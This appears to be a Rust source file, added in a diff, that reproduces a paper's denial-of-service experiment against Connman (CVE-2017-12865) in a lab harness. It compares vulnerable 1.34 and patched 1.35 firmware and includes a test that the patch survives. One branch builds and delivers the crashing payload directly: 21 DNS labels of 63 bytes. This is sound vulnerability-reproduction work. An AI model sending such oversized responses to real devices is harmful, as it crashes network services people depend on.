@@ -1,0 +1,81 @@
+//! E1 — denial of service with an oversized Type-A response.
+//!
+//! "On receiving a request from Connman, our DNS server sends a Type A
+//! response with length greater than the name buffer size. When Connman
+//! decompresses and adds the message to the name buffer, the application
+//! crashes." Run against the last vulnerable release (1.34) and the
+//! patched 1.35, on both architectures.
+
+use cml_exploit::strategies::DosCrash;
+use cml_firmware::{Arch, FirmwareKind, Protections};
+
+use crate::lab::{AttackOutcome, Lab, LabError};
+use crate::report::Table;
+
+/// Runs the experiment.
+pub fn run() -> Table {
+    let mut t = Table::new(
+        "E1",
+        "DoS via oversized Type-A response (CVE-2017-12865 trigger)",
+        &["arch", "firmware", "connman", "outcome", "paper says"],
+    );
+    for arch in Arch::ALL {
+        for kind in [FirmwareKind::OpenElec, FirmwareKind::Patched] {
+            let lab = Lab::new(kind, arch).with_protections(Protections::none());
+            let fw = lab.firmware();
+            let version = fw.kind().connman_version().to_string();
+            let (outcome, paper) = match lab.run_exploit(&DosCrash::new()) {
+                Ok(report) => {
+                    let expected = if kind.is_vulnerable() { "crash" } else { "survive" };
+                    (report.outcome.to_string(), expected)
+                }
+                Err(LabError::Recon(_)) => {
+                    // Patched firmware refuses to crash during recon —
+                    // deliver the naive oversized response directly.
+                    let mut victim = lab.boot_victim();
+                    let labels = vec![vec![0x41u8; 63]; 21];
+                    let out = cml_exploit::target::deliver_labels(&mut victim, labels)
+                        .expect("victim queries");
+                    let verdict = if out.daemon_alive() {
+                        AttackOutcome::Survived
+                    } else {
+                        AttackOutcome::DenialOfService
+                    };
+                    (verdict.to_string(), "survive")
+                }
+                Err(e) => (format!("error: {e}"), "n/a"),
+            };
+            t.row([
+                arch.to_string(),
+                kind.os_name().to_string(),
+                version,
+                outcome,
+                paper.to_string(),
+            ]);
+        }
+    }
+    t.note(
+        "Vulnerable Connman (≤1.34) dies on both architectures; the 1.35 bounds \
+         check rejects the name and the daemon keeps serving — matching the paper \
+         and the upstream fix.",
+    );
+    t
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn vulnerable_crashes_patched_survives() {
+        let t = run();
+        assert_eq!(t.rows.len(), 4);
+        for row in &t.rows {
+            if row[1] == "OpenELEC" {
+                assert_eq!(row[3], "DoS (crash)", "{row:?}");
+            } else {
+                assert_eq!(row[3], "survived", "{row:?}");
+            }
+        }
+    }
+}
